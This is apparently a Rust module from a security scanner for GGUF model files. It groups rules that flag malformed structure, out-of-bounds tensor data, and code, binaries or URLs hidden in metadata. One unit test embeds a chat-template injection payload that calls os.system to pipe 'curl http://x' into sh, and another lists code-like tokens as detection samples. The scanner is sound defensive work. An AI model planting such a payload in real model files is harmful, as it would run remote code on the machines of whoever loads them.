//! `GGUF` rules: GGUF files (llama.cpp). Structure a reader could be
//! exploited through, and payloads staged in metadata. Chat templates are
//! exposed in the view for the `TPL` rules and not analysed here.

pub mod gguf001_header_unreadable;
pub mod gguf002_malformed_metadata;
pub mod gguf003_duplicate_key;
pub mod gguf004_invalid_tensor_info;
pub mod gguf005_tensor_data_out_of_bounds;
pub mod gguf006_tensor_layout;
pub mod gguf007_metadata_code;
pub mod gguf008_metadata_embedded_binary;
pub mod gguf009_metadata_external_url;

use sentrascan_formats::gguf::{GgufAnomaly, GgufValue, GgufView};
use sentrascan_types::{Finding, Location, RuleFamily, RuleMeta};

use crate::rules::safetensors::metadata_payloads::{MetadataText, Text};

pub use gguf001_header_unreadable::finding as header_unreadable;

/// The family of every rule here.
pub(crate) const FAMILY: RuleFamily = RuleFamily::Gguf;

/// Runs every `GGUF` rule over a parsed file. (`GGUF001` applies when there
/// is no view: see [`header_unreadable`].) Limits in `view.limits_hit` are
/// the engine's to report; templates in `view.templates` are the `TPL`
/// rules' to analyse.
pub fn check_gguf(view: &GgufView, location: &Location, out: &mut Vec<Finding>) {
    for a in &view.anomalies {
        out.push(match a {
            GgufAnomaly::DuplicateKey { .. } | GgufAnomaly::DuplicateTensorName { .. } => {
                gguf003_duplicate_key::finding(location, a)
            }
            GgufAnomaly::TensorNameInvalid { .. }
            | GgufAnomaly::TensorNameTooLong { .. }
            | GgufAnomaly::TooManyDims { .. }
            | GgufAnomaly::BadDimensions { .. }
            | GgufAnomaly::UnknownGgmlType { .. }
            | GgufAnomaly::RowNotBlockMultiple { .. } => {
                gguf004_invalid_tensor_info::finding(location, a)
            }
            GgufAnomaly::DataOutOfBounds { .. } | GgufAnomaly::DataOverlap { .. } => {
                gguf005_tensor_data_out_of_bounds::finding(location, a)
            }
            GgufAnomaly::MisalignedData { .. }
            | GgufAnomaly::DataGap { .. }
            | GgufAnomaly::TrailingData { .. } => gguf006_tensor_layout::finding(location, a),
            _ => gguf002_malformed_metadata::finding(location, a),
        });
    }
    let texts = metadata_texts(view);
    gguf007_metadata_code::check(&texts, location, out);
    gguf008_metadata_embedded_binary::check(&texts, location, out);
    gguf009_metadata_external_url::check(&texts, location, out);
}

/// A finding whose title is the anomaly itself.
fn described(rule: &RuleMeta, location: &Location, anomaly: &GgufAnomaly) -> Finding {
    let text = crate::rules::safetensors::capitalise(&anomaly.to_string());
    Finding::new(rule, location.at(anomaly.offset()), text.clone())
        .description(format!("{text}."))
        .evidence("anomaly", anomaly.kind())
}

/// Keys, string values (arrays included) and tensor names; chat templates
/// are left to the template rules.
fn metadata_texts(view: &GgufView) -> Vec<MetadataText<'_>> {
    let mut texts = Vec::new();
    for kv in &view.metadata {
        texts.push(MetadataText {
            key: &kv.key,
            text: Text::Str(&kv.key),
            offset: kv.offset,
            in_vocabulary: false,
        });
        if kv.key.contains("chat_template") {
            continue;
        }
        let vocabulary = kv.key.starts_with("tokenizer.");
        push_value(&mut texts, &kv.key, &kv.value, kv.offset, false, vocabulary);
    }
    for t in &view.tensors {
        texts.push(MetadataText {
            key: &t.name,
            text: Text::Str(&t.name),
            offset: t.info_offset,
            in_vocabulary: false,
        });
    }
    texts
}

fn push_value<'a>(
    texts: &mut Vec<MetadataText<'a>>,
    key: &'a str,
    value: &'a GgufValue,
    offset: u64,
    in_array: bool,
    vocabulary: bool,
) {
    let in_vocabulary = in_array && vocabulary;
    match value {
        GgufValue::Str(s) => texts.push(MetadataText {
            key,
            text: Text::Str(s),
            offset,
            in_vocabulary,
        }),
        GgufValue::Bytes(b) => texts.push(MetadataText {
            key,
            text: Text::Bytes(b),
            offset,
            in_vocabulary,
        }),
        GgufValue::Array(a) => {
            for item in &a.items {
                push_value(texts, key, item, offset, true, vocabulary);
            }
        }
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::safetensors::tests::{codes, fixture, manifest};
    use sentrascan_formats::{Limits, gguf};

    /// Every fixture gives exactly the findings its manifest lines list.
    #[test]
    fn fixtures_match_the_manifest() {
        for (file, mut expected) in manifest("gguf/") {
            let data = fixture(&file);
            let location = Location::file(&file);
            let mut out = Vec::new();
            match gguf::parse(&data, &Limits::default()) {
                Ok(view) => {
                    assert!(view.limits_hit.is_empty(), "{file}");
                    check_gguf(&view, &location, &mut out);
                }
                Err(e) => out.push(header_unreadable(&location, &e)),
            }
            expected.sort();
            assert_eq!(codes(&out), expected, "{file}: {out:#?}");
        }
    }

    #[test]
    fn templates_are_left_to_the_template_rules() {
        // A template that would match the metadata rules if they looked.
        let mut view = gguf::GgufView::default();
        view.metadata.push(gguf::GgufKv {
            key: "tokenizer.chat_template".into(),
            value: GgufValue::Str(
                "{{ cycler.__init__.__globals__.os.system('curl http://x | sh') }}".into(),
            ),
            offset: 24,
        });
        let mut out = Vec::new();
        check_gguf(&view, &Location::file("m.gguf"), &mut out);
        assert!(out.is_empty(), "{out:#?}");
    }

    #[test]
    fn vocabulary_links_are_not_reported_but_code_is() {
        let mut view = gguf::GgufView::default();
        view.metadata.push(gguf::GgufKv {
            key: "tokenizer.ggml.tokens".into(),
            value: GgufValue::Array(gguf::GgufArray {
                element_type: gguf::GgufValueType::String,
                len: 3,
                items: vec![
                    GgufValue::Str("http://www".into()),
                    GgufValue::Str("Ġeval".into()),
                    GgufValue::Str("os.system(".into()),
                ],
            }),
            offset: 24,
        });
        let mut out = Vec::new();
        check_gguf(&view, &Location::file("m.gguf"), &mut out);
        assert_eq!(codes(&out), [("GGUF007".to_string(), "HIGH".to_string())]);
    }

    #[test]
    fn every_rule_is_documented() {
        for rule in [
            &gguf001_header_unreadable::RULE,
            &gguf002_malformed_metadata::RULE,
            &gguf003_duplicate_key::RULE,
            &gguf004_invalid_tensor_info::RULE,
            &gguf005_tensor_data_out_of_bounds::RULE,
            &gguf006_tensor_layout::RULE,
            &gguf007_metadata_code::RULE,
            &gguf008_metadata_embedded_binary::RULE,
            &gguf009_metadata_external_url::RULE,
        ] {
            assert!(
                rule.code.starts_with("GGUF") && rule.code.len() == 7,
                "{}",
                rule.code
            );
            assert!(rule.name.starts_with("gguf-"), "{}", rule.name);
            for heading in [
                "## What it does",
                "## Why is this bad?",
                "## Example",
                "## How to fix",
                "## References",
            ] {
                assert!(rule.docs.contains(heading), "{} lacks {heading}", rule.code);
            }
        }
    }
}
